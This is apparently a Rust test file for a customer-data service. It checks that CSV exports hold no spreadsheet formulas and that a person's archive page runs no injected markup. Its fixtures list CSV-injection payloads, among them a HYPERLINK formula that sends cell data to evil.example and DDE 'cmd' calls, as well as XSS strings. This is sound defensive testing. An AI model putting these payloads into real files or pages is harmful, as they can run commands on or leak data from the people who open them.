//! Files that leave: no cell is a formula, in whichever way a spreadsheet divides the lines.

use super::castle;
use crate::world::*;
use api::openapi::{document, routes_of};
use base::Timestamp;

const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "Anna;=1+cmd|' /C calc'!A0",
    "Anna,=1+1",
    "Anna\t=1+1",
    "\"=1+1",
    "Anna\";=1+1;\"",
    "'=1+1",
];

/// Whether a spreadsheet would run it. Numbers and phones begin with a sign, too, and run nothing.
fn runs(cell: &str) -> bool {
    let begins = cell
        .trim_start_matches([' ', '\u{feff}'])
        .starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    let plain =
        cell.trim_start_matches(['+', '-']).chars().all(|c| c.is_ascii_digit() || " ().,-".contains(c));
    begins && !(plain && cell.chars().any(|c| c.is_ascii_digit()))
}

/// Divides a text as a spreadsheet of some country does: quotes only where a cell begins with one.
fn cells(text: &str, separator: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new();
    reader.delimiter(separator).has_headers(false).flexible(true);
    let rows = reader.from_reader(text.as_bytes()).into_records().map(|row| row.unwrap());
    rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

fn expect_harmless(name: &str, file: &Answer) {
    assert_eq!(file.status, 200, "{name}: {file:?}");
    assert_eq!(file.header("content-type"), "text/csv; charset=utf-8", "{name}");
    assert!(file.header("content-disposition").starts_with("attachment; filename=\""), "{name}");
    for separator in [b',', b';', b'\t'] {
        for cell in cells(&file.text, separator) {
            assert!(!runs(&cell), "{name}, divided at {:?}: {cell:?} in\n{}", separator as char, file.text);
        }
    }
}

/// Customers, records, changes of a segment, refused rows, what stays of an undone import, a report and the log, filled
/// with formulas wherever a text goes in.
#[test]
fn no_file_that_leaves_holds_a_formula() {
    let world = castle();
    let shop = world.shop("shop");
    let files = [
        ("/customers/export.csv", customers(&shop)),
        ("/records/export.csv", records(&shop)),
        ("/segments/{id}/changes/export.csv", changes(&shop)),
        ("/operations/{id}/errors.csv", refused_rows(&shop)),
        ("/operations/{id}/errors.csv", kept_rows(&shop)),
        ("/campaigns/{id}/report.csv", report(&shop)),
        ("/audit/export.csv", log(&world, &shop)),
    ];
    for (name, paths) in &files {
        for path in paths {
            let file = shop.get(path);
            expect_harmless(name, &file);
            // What was typed is in it: a file that lost it would be harmless, too.
            let typed = ["HYPERLINK", "1+1", "cmd|"].iter().any(|part| file.text.contains(part));
            assert!(typed, "{name}: {}", file.text);
        }
    }
    // A file that leaves from now on is attacked here as well.
    let known: Vec<&str> = files.iter().map(|(name, _)| *name).collect();
    let all = routes_of(&document());
    let leaving = all.iter().filter(|route| route.method == "GET" && route.path.ends_with(".csv"));
    let missing: Vec<&str> = leaving
        .map(|it| it.path.as_str())
        .filter(|path| !known.iter().any(|name| path.ends_with(name)))
        .collect();
    assert!(missing.is_empty(), "files that nobody attacks: {missing:?}");
}

/// Those that a name may be; a tab may stand in a cell of a file only.
fn words() -> Vec<&'static str> {
    HOSTILE.into_iter().filter(|text| !text.contains('\t')).collect()
}

fn customers(shop: &Shop) -> Vec<String> {
    for (at, text) in HOSTILE.iter().enumerate() {
        let identities = json!([{ "kind": "email", "value": format!("h{at}@shop.example") }, { "kind": "external", "value": text }]);
        let body = json!({ "first_name": text, "last_name": text, "middle_name": text, "city": text, "identities": identities });
        let made = shop.post("/customers", body);
        assert!(matches!(made.status, 201 | 422), "{made:?}");
        if made.status == 422 {
            let plain = json!({ "first_name": text, "city": text, "identities": [{ "kind": "email", "value": format!("p{at}@shop.example") }] });
            let made = shop.post("/customers", plain);
            assert!(matches!(made.status, 201 | 422), "{made:?}");
        }
    }
    // Fields of the shop's own: a text, a choice, and several choices in one cell.
    let words = words();
    let choices: Vec<Value> =
        words.iter().map(|text| json!({ "value": text, "label": { "ru": text } })).collect();
    for (key, kind) in [("typed", "text"), ("chosen", "choice"), ("several", "many_choice")] {
        let listed = if kind == "text" { json!([]) } else { json!(choices) };
        let body = json!({ "key": key, "label": { "ru": HOSTILE[0] }, "type": kind, "choices": listed });
        shop.create("/fields", body);
    }
    for text in words {
        let fields = json!({ "typed": text, "chosen": text, "several": [text, HOSTILE[3], HOSTILE[5]] });
        shop.create("/customers", json!({ "first_name": "Typed", "fields": fields }));
    }
    vec!["/customers/export.csv".to_owned()]
}

fn records(shop: &Shop) -> Vec<String> {
    let field = |text: &str| json!({ "key": "note", "label": { "ru": text }, "type": "text" });
    let made = shop.post(
        "/record-types",
        json!({ "key": "visit", "label": { "ru": HOSTILE[0] }, "fields": [field(HOSTILE[1])] }),
    );
    assert_eq!(made.status, 201, "{made:?}");
    for text in HOSTILE {
        let identities = json!([{ "kind": "external", "value": text }]);
        let owner = json!({ "first_name": text, "identities": identities });
        let customer = shop.post("/customers", owner);
        // Some are there already, with the same number of the shop's own, and a tab is refused.
        let customer = match customer.json["id"].as_str() {
            Some(id) => id.to_owned(),
            None => shop.create("/customers", json!({ "first_name": "Owner" })),
        };
        let body =
            json!({ "type": "visit", "customer_id": customer, "number": text, "fields": { "note": text } });
        let made = shop.post("/records", body);
        assert!(matches!(made.status, 201 | 422), "{made:?}");
    }
    vec![format!("/records/export.csv?type={}", made.json["id"].as_str().unwrap())]
}

fn changes(shop: &Shop) -> Vec<String> {
    let segment = shop.create("/segments", json!({ "name": HOSTILE[6], "rule": { "all": [] } }));
    // Who came before the segment was looked at for the first time did not enter it.
    shop.wait(&format!("/segments/{segment}/changes/latest?period=today&change=entered"), |answer| {
        for text in HOSTILE {
            shop.post("/customers", json!({ "first_name": text, "city": text }));
        }
        answer.json["rows"].as_array().is_some_and(|rows| rows.len() >= HOSTILE.len())
    });
    vec![format!("/segments/{segment}/changes/export.csv?period=today")]
}

/// Rows that an import refused, as they came, below headers as they came: with every separator that a file may have.
fn refused_rows(shop: &Shop) -> Vec<String> {
    let mut paths = Vec::new();
    for separator in [",", ";", "\t"] {
        let lines = HOSTILE.iter().map(|text| format!("nonsense{separator}{}\n", quoted(text)));
        let heading = HOSTILE.map(quoted).join(separator);
        let text = format!("email{separator}city{separator}{heading}\n{}", lines.collect::<String>());
        paths.push(format!("/operations/{}/errors.csv", imported(shop, text)));
    }
    paths
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Imports a file of customers whose first columns are an address and a city.
fn imported(shop: &Shop, text: String) -> String {
    let body = Some(("application/octet-stream".to_owned(), text.into_bytes()));
    let file = shop.client.raw("POST", &shop.path("/files?name=%3D1%2B1.csv"), body);
    assert_eq!(file.status, 201, "{file:?}");
    let import = json!({
        "file_id": file.json["id"], "kind": "customers", "dry_run": false,
        "mapping": [{ "column": 0, "target": "email" }, { "column": 1, "target": "city" }],
    });
    let id = shop.create("/imports", import);
    shop.wait(&format!("/operations/{id}"), |answer| answer.json["finished_at"].is_string());
    id
}

/// What stays when an import is taken back: people who have other names since.
fn kept_rows(shop: &Shop) -> Vec<String> {
    let lines = (0..HOSTILE.len()).map(|at| format!("kept{at}@shop.example,Kept\n"));
    let import = imported(shop, format!("email,city\n{}", lines.collect::<String>()));
    let found = shop.get("/customers?limit=100&search=kept");
    let rows = found.json["rows"].as_array().unwrap_or_else(|| panic!("{found:?}"));
    assert!(rows.len() >= HOSTILE.len(), "{found:?}");
    for (row, text) in rows.iter().zip(words()) {
        let path = format!("/customers/{}", row["id"].as_str().unwrap());
        let known = shop.get(&path);
        let named =
            shop.edit("PATCH", &path, known.header("etag"), json!({ "first_name": text, "city": text }));
        assert_eq!(named.status, 200, "{named:?}");
    }
    let undone = shop.create(&format!("/imports/{import}/undo"), json!({ "dry_run": false }));
    shop.wait(&format!("/operations/{undone}"), |answer| answer.json["finished_at"].is_string());
    vec![format!("/operations/{undone}/errors.csv")]
}

fn report(shop: &Shop) -> Vec<String> {
    let template = shop.create("/templates", crate::examples::messages::template("Test"));
    let sender = shop.get("/senders").json["rows"][0]["id"].clone();
    HOSTILE
        .iter()
        .map(|text| {
            let campaign = json!({
                "name": text, "channel": "email", "template_id": template, "sender_id": sender, "purpose": "marketing",
                "topic_id": null, "include": [], "exclude": [], "control_percent": 0,
                "schedule": { "at": null, "not_after": null }, "goal_days": 7, "utm": null,
            });
            format!("/campaigns/{}/report.csv", shop.create("/campaigns", campaign))
        })
        .collect()
}

/// The log tells who did what by their names. Its lines are of ids and our words, until some use case says more: so
/// lines of formulas are written into it by hand.
fn log(world: &World, shop: &Shop) -> Vec<String> {
    let named = shop.client.raw(
        "PATCH",
        "/api/me",
        Some(("application/json".to_owned(), json!({ "name": HOSTILE[0] }).to_string().into_bytes())),
    );
    assert!(named.status < 300, "{named:?}");
    let workspace = world.server.workspace("shop").unwrap();
    for text in HOSTILE {
        let detail = json!({ "said": format!("a;{text}"), text: 1 });
        let line = store::audit::Entry {
            happened_at: Timestamp::from_seconds(1),
            actor: text.to_owned(),
            action: text.to_owned(),
            subject: text.to_owned(),
            detail,
        };
        workspace.db.write(move |tx| store::audit::append(tx, &line)).unwrap();
    }
    vec!["/audit/export.csv".to_owned()]
}

/// What a page would run, or what would end the place that a text stands in.
const MARKUP: [&str; 8] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</dd></dl></li></ol><h1>Paid</h1>",
    "<!--",
    "]]></style><style>*{display:none}</style>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// The archive that a person is given: its page runs nothing and shows each text as it was typed, its data are the
/// texts themselves, and nobody else is in it.
#[test]
fn archive_of_a_person_runs_nothing_and_names_nobody_else() {
    let world = castle();
    let shop = world.shop("shop");
    let other = world.shop("other");
    let neighbour = json!([{ "kind": "email", "value": "neighbour-marker@shop.example" }]);
    shop.create("/customers", json!({ "first_name": "Neighbour-marker", "identities": neighbour }));
    for (at, text) in MARKUP.iter().enumerate() {
        let identities = json!([{ "kind": "email", "value": format!("m{at}@shop.example") }, { "kind": "external", "value": text }]);
        let id = shop.create(
            "/customers",
            json!({ "first_name": text, "last_name": text, "city": text, "identities": identities }),
        );
        let consent = json!({ "purpose": "marketing", "channel": "email", "given": true, "document": text });
        assert_eq!(shop.post(&format!("/customers/{id}/consents"), consent).status, 201);
        let foreign = other.client.get(&shop.path(&format!("/customers/{id}/archive")));
        assert!(matches!(foreign.status, 403 | 404), "{foreign:?}");
        let file = shop.get(&format!("/customers/{id}/archive"));
        assert_eq!((file.status, file.header("content-type")), (200, "application/zip"), "{file:?}");
        let named = format!("attachment; filename=\"{id}-archive.zip\"");
        assert_eq!(file.header("content-disposition"), named);
        let page = entry(&file.bytes, "index.html");
        let tags = page.split('<').skip(1).map(|part| part.split(['>', ' ']).next().unwrap());
        let ours = [
            "!doctype", "html", "/html", "head", "/head", "meta", "title", "/title", "style", "/style",
            "body", "/body",
        ]
        .into_iter()
        .chain([
            "h1", "/h1", "h2", "/h2", "p", "/p", "nav", "/nav", "a", "/a", "section", "/section", "span",
            "/span",
        ])
        .chain(["ol", "/ol", "li", "/li", "b", "/b", "dl", "/dl", "dt", "/dt", "dd", "/dd"]);
        let ours: Vec<&str> = ours.collect();
        for tag in tags {
            assert!(ours.contains(&tag), "{text}: <{tag}> in the page");
        }
        assert_eq!(page.matches("<h1>").count(), 1, "{text}");
        let data: Value = serde_json::from_str(&entry(&file.bytes, "data.json")).unwrap();
        assert_eq!(data["profile"][0]["first_name"], *text);
        assert_eq!(data["consents"][0]["document"], *text);
        for name in ["index.html", "data.json", "README.txt"] {
            let inside = entry(&file.bytes, name).to_lowercase();
            assert!(!inside.contains("neighbour-marker"), "{name} names somebody else");
        }
    }
}

/// A file of a ZIP as text, found by the list at its end as every program does it.
fn entry(zip: &[u8], name: &str) -> String {
    use std::io::Read;
    let number = |at: usize, bytes: usize| {
        (0..bytes).rev().fold(0, |sum, byte| sum * 256 + usize::from(zip[at + byte]))
    };
    let end = zip.len() - 22;
    assert_eq!(&zip[end..end + 4], b"PK\x05\x06");
    let mut at = number(end + 16, 4);
    for _ in 0..number(end + 10, 2) {
        let length = number(at + 28, 2);
        let (packed, whole, begins) = (number(at + 20, 4), number(at + 24, 4), number(at + 42, 4));
        if &zip[at + 46..at + 46 + length] == name.as_bytes() {
            let body = begins + 30 + number(begins + 26, 2) + number(begins + 28, 2);
            let mut text = String::new();
            flate2::read::DeflateDecoder::new(&zip[body..body + packed]).read_to_string(&mut text).unwrap();
            assert_eq!(text.len(), whole);
            return text;
        }
        at += 46 + length + number(at + 30, 2) + number(at + 32, 2);
    }
    panic!("there is no {name}")
}
